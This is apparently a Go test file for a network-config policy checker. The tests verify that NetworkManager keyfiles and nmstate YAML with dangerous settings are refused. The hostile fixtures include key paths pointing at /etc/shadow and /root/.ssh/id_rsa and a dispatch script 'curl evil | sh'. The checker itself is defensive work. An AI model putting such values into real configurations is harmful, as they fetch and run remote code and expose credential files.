package netpolicy

import (
	"errors"
	"os"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/nodereg/nodereg/internal/errclass"
	"github.com/nodereg/nodereg/internal/host"
	"github.com/nodereg/nodereg/internal/testutil"
)

const goodKeyfile = "[connection]\nid=eth0\nuuid=0f2e8c2e-6b1d-4a0e-9a8e-3b5c2d7f1a01\ntype=ethernet\ninterface-name=eth0\n\n[ethernet]\n\n[ipv4]\naddress1=192.168.122.10/24,192.168.122.1\ndns=192.168.122.1;\nmethod=manual\n\n[ipv6]\nmethod=disabled\n\n[proxy]\n"

func kf(label, text string) Keyfile {
	return Keyfile{Label: label, Name: strings.TrimPrefix(label, "config.") + ".nmconnection", Content: []byte(text)}
}

func wantRefusal(t *testing.T, err error, path string, rule Rule) {
	t.Helper()
	var r *Refusal
	if !errors.As(err, &r) || r.Path != path || r.Rule != rule {
		t.Fatalf("got %v; want a refusal of %s by rule %s", err, path, rule)
	}
	if !strings.Contains(err.Error(), path) || !strings.Contains(err.Error(), string(rule)) {
		t.Errorf("message does not name the key and the rule: %v", err)
	}
}

// TestKeyfileRules: each hostile keyfile of docs/reliability.md's
// "Network-config policy" is refused with its key
// path and rule; allowing the rule in the local config lets it through,
// except for the rules no config can lift.
func TestKeyfileRules(t *testing.T) {
	base := "[connection]\nid=eth0\nuuid=0f2e8c2e-6b1d-4a0e-9a8e-3b5c2d7f1a01\ntype=ethernet\ninterface-name=eth0\n"
	cases := []struct {
		name, text, path string
		rule             Rule
	}{
		{"802-1x", base + "[802-1x]\neap=tls;\nca-cert=/etc/shadow\nprivate-key=/root/.ssh/id_rsa\n", "config.eth0 [802-1x]", FilesAndSecrets},
		{"vpn", strings.Replace(base, "type=ethernet", "type=vpn", 1) + "[vpn]\nservice-type=org.freedesktop.NetworkManager.openvpn\n", "config.eth0 [vpn]", FilesAndSecrets},
		{"vpn type", strings.Replace(base, "type=ethernet", "type=vpn", 1), "config.eth0 [connection] type", FilesAndSecrets},
		{"cert key in an allowed section", base + "[ethernet]\nwake-on-lan-password=00:11:22:33:44:55\n", "config.eth0 [ethernet] wake-on-lan-password", FilesAndSecrets},
		{"file value", base + "[ipv4]\nmethod=auto\ndhcp-iaid=/etc/machine-id\n", "config.eth0 [ipv4] dhcp-iaid", FilesAndSecrets},
		{"secondaries", base + "secondaries=7c1e1f2e-6b1d-4a0e-9a8e-3b5c2d7f1a02\n", "config.eth0 [connection] secondaries", FilesAndSecrets},
		{"proxy", base + "[proxy]\nmethod=1\npac-url=http://proxy.example/wpad.dat\n", "config.eth0 [proxy] method", Proxy},
		{"pac script", base + "[proxy]\nmethod=1\npac-script=function FindProxyForURL(u,h){return \"DIRECT\";}\n", "config.eth0 [proxy] pac-script", Scripts},
		{"hostname", base + "[hostname]\nfrom-dhcp=1\n", "config.eth0 [hostname]", Hostname},
		{"permissions", base + "permissions=user:root;\n", "config.eth0 [connection] permissions", Permissions},
		{"unknown section", base + "[tc]\nqdisc.root=fq_codel\n", "config.eth0 [tc]", Unknown},
		{"unknown type", strings.Replace(base, "type=ethernet", "type=tun", 1), "config.eth0 [connection] type", Unknown},
		{"escaped blank", strings.Replace(base, "interface-name=eth0", `interface-name=eth0\s`, 1), "config.eth0 [connection] interface-name", Names},
		{"trailing blank", strings.Replace(base, "interface-name=eth0", "interface-name=eth0 ", 1), "config.eth0 [connection] interface-name", Names},
		{"dropped by GLib", strings.Replace(base, "interface-name=eth0", `interface-name=eth\;0`, 1), "config.eth0 [connection] interface-name", Names},
		{"escaped uuid", strings.Replace(base, "3b5c2d7f1a01", `3b5c2d7f1a0\s`, 1), "config.eth0 [connection] uuid", Names},
		{"vlan parent", "[connection]\nid=v\ntype=vlan\ninterface-name=v10\n[vlan]\nid=10\nparent=eth0\\t\n", "config.eth0 [vlan] parent", Names},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			err := Policy{}.CheckKeyfiles([]Keyfile{kf("config.eth0", c.text)})
			wantRefusal(t, err, c.path, c.rule)
			err = Policy{Allow: OptIn}.CheckKeyfiles([]Keyfile{kf("config.eth0", c.text)})
			if optIn := c.rule != Names; optIn != (err == nil) {
				t.Errorf("with every opt-in rule allowed: %v", err)
			}
		})
	}
	if err := (Policy{}).CheckKeyfiles([]Keyfile{kf("config.eth0", goodKeyfile)}); err != nil {
		t.Errorf("a plain static profile refused: %v", err)
	}
}

func TestKeyfilesUniqueAndVLANCycle(t *testing.T) {
	a := kf("config.a", "[connection]\nid=a\nuuid=0F2E8C2E-6B1D-4A0E-9A8E-3B5C2D7F1A01\ntype=ethernet\ninterface-name=eth0\n")
	b := kf("config.b", "[connection]\nid=b\nuuid=0f2e8c2e-6b1d-4a0e-9a8e-3b5c2d7f1a01\ntype=ethernet\ninterface-name=eth1\n")
	wantRefusal(t, Policy{}.CheckKeyfiles([]Keyfile{a, b}), "config.b [connection] uuid", Unique)
	c := kf("config.c", "[connection]\nid=a\ntype=ethernet\ninterface-name=eth2\n")
	wantRefusal(t, Policy{}.CheckKeyfiles([]Keyfile{a, c}), "config.c [connection] id", Unique)

	v1 := kf("config.v1", "[connection]\nid=v1\ntype=vlan\ninterface-name=v1\n[vlan]\nid=10\nparent=v2\n")
	v2 := kf("config.v2", "[connection]\nid=v2\nuuid=7c1e1f2e-6b1d-4a0e-9a8e-3b5c2d7f1a02\ntype=vlan\ninterface-name=v2\n[vlan]\nid=20\nparent=v1\n")
	err := Policy{Allow: OptIn}.CheckKeyfiles([]Keyfile{v1, v2})
	wantRefusal(t, err, "config.v1 [vlan] parent", VLANCycle)
	if !strings.Contains(err.Error(), "config.v1 -> config.v2 -> config.v1") {
		t.Errorf("the cycle is not named: %v", err)
	}
	byUUID := kf("config.v1", "[connection]\nid=v1\ntype=vlan\ninterface-name=v1\n[vlan]\nid=10\nparent=7C1E1F2E-6B1D-4A0E-9A8E-3B5C2D7F1A02\n")
	wantRefusal(t, Policy{}.CheckKeyfiles([]Keyfile{byUUID, v2}), "config.v1 [vlan] parent", VLANCycle)
	onEth := kf("config.v2", "[connection]\nid=v2\ntype=vlan\ninterface-name=v2\n[vlan]\nid=20\nparent=eth0\n")
	if err := (Policy{}).CheckKeyfiles([]Keyfile{v1, onEth}); err != nil {
		t.Errorf("a VLAN on a VLAN on eth0 refused: %v", err)
	}
}

func state(t *testing.T, y string) map[string]any {
	t.Helper()
	var m map[string]any
	if err := yaml.Unmarshal([]byte(y), &m); err != nil {
		t.Fatal(err)
	}
	return m
}

func TestStateRules(t *testing.T) {
	eth := "interfaces:\n- name: eth0\n  type: ethernet\n  state: up\n"
	cases := []struct {
		name, y, path string
		rule          Rule
	}{
		{"hostname", eth + "hostname:\n  config: evil\n", "config.hostname", Hostname},
		{"802.1x", eth + "  802.1x:\n    identity: x\n    eap-methods: [tls]\n    ca-cert: /etc/shadow\n    private-key: /root/.ssh/id_rsa\n", "config.interfaces[0].802.1x", FilesAndSecrets},
		{"dispatch", eth + "  dispatch:\n    post-activation: curl evil | sh\n", "config.interfaces[0].dispatch", Scripts},
		{"ovs-db", eth + "ovs-db:\n  external_ids: {}\n", "config.ovs-db", Unknown},
		{"unknown key", eth + "  sriov-magic: 1\n", "config.interfaces[0].sriov-magic", Unknown},
		{"macsec kind", "interfaces:\n- name: ms0\n  type: macsec\n", "config.interfaces[0].type", FilesAndSecrets},
		{"ovs-bridge kind (outside the translator's kinds)", "interfaces:\n- name: ovs0\n  type: ovs-bridge\n", "config.interfaces[0].type", Unknown},
		{"file in an allowed tree", eth + "  ethernet:\n    sr-iov:\n      firmware: /lib/firmware/evil.bin\n", "config.interfaces[0].ethernet.sr-iov.firmware", FilesAndSecrets},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			wantRefusal(t, Policy{}.CheckState(state(t, c.y)), c.path, c.rule)
			if err := (Policy{Allow: OptIn}).CheckState(state(t, c.y)); err != nil {
				t.Errorf("with every opt-in rule allowed: %v", err)
			}
		})
	}
	cycle := "interfaces:\n- name: eth0\n  type: ethernet\n- name: v1\n  type: vlan\n  vlan: {base-iface: v2, id: 10}\n- name: v2\n  type: vlan\n  vlan: {base-iface: v1, id: 20}\n"
	wantRefusal(t, Policy{Allow: OptIn}.CheckState(state(t, cycle)), "config.interfaces[1].vlan.base-iface", VLANCycle)
	self := "interfaces:\n- name: v1\n  type: vlan\n  vlan: {base-iface: v1, id: 10}\n"
	wantRefusal(t, Policy{}.CheckState(state(t, self)), "config.interfaces[0].vlan.base-iface", VLANCycle)
	seed := eth + "  mtu: 9000\n  mac-address: 52:54:00:0c:00:01\n  ipv4:\n    enabled: true\n    dhcp: false\n    address:\n    - ip: 192.168.122.10\n      prefix-length: 24\n  ethtool:\n    feature: {rx-checksum: true}\n- name: eth0.10\n  type: vlan\n  vlan: {base-iface: eth0, id: 10}\nroutes:\n  config:\n  - destination: 0.0.0.0/0\n    next-hop-interface: eth0\n    next-hop-address: 192.168.122.1\nroute-rules:\n  config:\n  - ip-to: 10.0.0.0/8\n    route-table: 100\ndns-resolver:\n  config:\n    server: [192.168.122.1]\n"
	if err := (Policy{}).CheckState(state(t, seed)); err != nil {
		t.Errorf("an IPAM template with a VLAN, MTU, MAC and ethtool refused: %v", err)
	}
}

// writeProfile puts a keyfile where NetworkManager loads it, root-only.
func writeProfile(t *testing.T, root, hostPath, text string, mode os.FileMode) {
	t.Helper()
	testutil.WriteFile(t, root, hostPath, text, mode)
}

func TestForeignProfiles(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: NetworkManager loads only root-owned keyfiles, and Foreign skips the others")
	}
	root := t.TempDir()
	image := "[connection]\nid=image-eth0\nuuid=0F2E8C2E-6B1D-4A0E-9A8E-3B5C2D7F1A01\ntype=ethernet\n"
	writeProfile(t, root, "/usr/lib/NetworkManager/system-connections/image.nmconnection", image, 0o600)
	writeProfile(t, root, "/usr/lib/NetworkManager/system-connections/no-extension", strings.Replace(image, "image-eth0", "skipped-1", 1), 0o600)
	writeProfile(t, root, "/etc/NetworkManager/system-connections/legacy", "[connection]\nid=legacy\nuuid=11111111-6b1d-4a0e-9a8e-3b5c2d7f1a01\n", 0o600)
	writeProfile(t, root, "/etc/NetworkManager/system-connections/world.nmconnection", "[connection]\nid=world\n", 0o644)
	writeProfile(t, root, "/etc/NetworkManager/system-connections/.hidden.nmconnection", "[connection]\nid=hidden\n", 0o600)
	writeProfile(t, root, "/etc/NetworkManager/system-connections/ours.nmconnection", "[connection]\nid=ours\n", 0o600)
	writeProfile(t, root, "/run/NetworkManager/system-connections/nodereg-bootstrap-eth0.nmconnection", "[connection]\nid=eth0\n", 0o600)
	// NetworkManager's own profile for a device it found configured.
	writeProfile(t, root, "/run/NetworkManager/system-connections/eth0.nmconnection", "[connection]\nid=eth0\nuuid=0f2e8c2e-6b1d-4a0e-9a8e-3b5c2d7f1a99\ninterface-name=eth0\n\n[.nmmeta]\nnm-generated=true\nvolatile=true\nexternal=true\n", 0o600)
	p := Policy{OwnedPrefixes: []string{"/run/NetworkManager/system-connections/nodereg-bootstrap-"}}
	got, err := p.Foreign(host.Root(root), func(hp string) bool { return hp == "/etc/NetworkManager/system-connections/ours.nmconnection" })
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range got {
		ids = append(ids, f.ID)
	}
	if strings.Join(ids, ",") != "legacy,image-eth0" {
		t.Fatalf("foreign profiles %v", got)
	}
	server := kf("config.eth0", goodKeyfile)
	err = CheckForeign([]Keyfile{server}, got)
	wantRefusal(t, err, "config.eth0 [connection] uuid", Unique)
	if !strings.Contains(err.Error(), "/usr/lib/NetworkManager/system-connections/image.nmconnection") {
		t.Errorf("the foreign profile is not named: %v", err)
	}
	sameID := kf("config.x", "[connection]\nid=legacy\ntype=ethernet\ninterface-name=eth1\n")
	wantRefusal(t, CheckForeign([]Keyfile{sameID}, got), "config.x [connection] id", Unique)
	if err := CheckForeign([]Keyfile{kf("config.eth0", strings.Replace(goodKeyfile, "0f2e8c2e", "22222222", 1))}, got); err != nil {
		t.Errorf("a profile of its own refused: %v", err)
	}
}

// FromConfig parses a config file's bytes for FromConfigNode, as
// agent/localconfig does (there under the YAML budget).
func FromConfig(file string, b []byte) (Policy, error) {
	var doc yaml.Node
	if err := yaml.Unmarshal(b, &doc); err != nil {
		return Policy{}, &ConfigError{Where: file, Err: err}
	}
	return FromConfigNode(file, &doc)
}

func TestFromConfig(t *testing.T) {
	p, err := FromConfig("c.yaml", []byte("elemental:\n  registration:\n    url: https://x\n    network-policy:\n      allow: [hostname, proxy]\n"))
	if err != nil || len(p.Allow) != 2 || !p.allows(Hostname) || !p.allows(Proxy) || p.allows(Scripts) {
		t.Fatalf("%+v %v", p, err)
	}
	if p, err := FromConfig("c.yaml", []byte("elemental:\n  registration:\n    url: https://x\n")); err != nil || len(p.Allow) != 0 {
		t.Fatalf("no key: %+v %v", p, err)
	}
	for _, bad := range []string{"allow: [names]", "allow: [everything]", "alow: [proxy]", "strict"} {
		_, err := FromConfig("c.yaml", []byte("elemental:\n  registration:\n    network-policy:\n      "+bad+"\n"))
		var ce *ConfigError
		if bad == "strict" {
			_, err = FromConfig("c.yaml", []byte("elemental:\n  registration:\n    network-policy: strict\n"))
		}
		if !errors.As(err, &ce) || !strings.Contains(err.Error(), Key) || !errclass.Is(err, errclass.Config) {
			t.Errorf("%q: %v", bad, err)
		}
	}
	if w := ServerSentWarning(parseDoc(t, "elemental:\n  registration:\n    network-policy:\n      allow: [files-and-secrets]\n")); !strings.Contains(w, "ignored") {
		t.Errorf("no warning for a server-sent policy: %q", w)
	}
	if w := ServerSentWarning(parseDoc(t, "elemental:\n  registration:\n    url: https://x\n")); w != "" {
		t.Errorf("a warning without the key: %q", w)
	}
}

// parseDoc is a reply as the protocol decoder hands it on.
func parseDoc(t *testing.T, s string) *yaml.Node {
	t.Helper()
	var doc yaml.Node
	if err := yaml.Unmarshal([]byte(s), &doc); err != nil {
		t.Fatal(err)
	}
	return &doc
}
